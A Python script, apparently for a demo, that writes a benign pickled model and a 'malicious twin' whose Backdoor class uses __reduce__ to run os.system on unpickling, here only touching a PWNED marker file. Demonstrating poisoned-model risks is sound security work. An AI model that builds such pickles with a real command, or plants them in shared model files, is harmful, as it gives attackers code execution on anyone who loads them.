"""Writes the two models `make demo` serves: a benign one, and a malicious twin whose payload
would create a marker file when unpickled.

    python3 make_demo_models.py OUTDIR
"""
import collections
import os
import pickle
import sys


class Backdoor:
    """Unpickling this calls os.system: what a poisoned model file does."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


def main():
    outdir = sys.argv[1]
    os.makedirs(outdir, exist_ok=True)
    marker = os.path.join(os.path.abspath(outdir), "PWNED")
    if os.path.exists(marker):
        os.remove(marker)
    model = collections.OrderedDict(name="linear-3", weight=[0.5, -1.25, 2.0], bias=0.25)
    with open(os.path.join(outdir, "model.pkl"), "wb") as f:
        pickle.dump(model, f, protocol=2)
    evil = collections.OrderedDict(model, name=Backdoor("touch %s" % marker))
    with open(os.path.join(outdir, "evil.pkl"), "wb") as f:
        pickle.dump(evil, f, protocol=2)
    print("wrote %s/model.pkl and its malicious twin %s/evil.pkl" % (outdir, outdir))


if __name__ == "__main__":
    main()
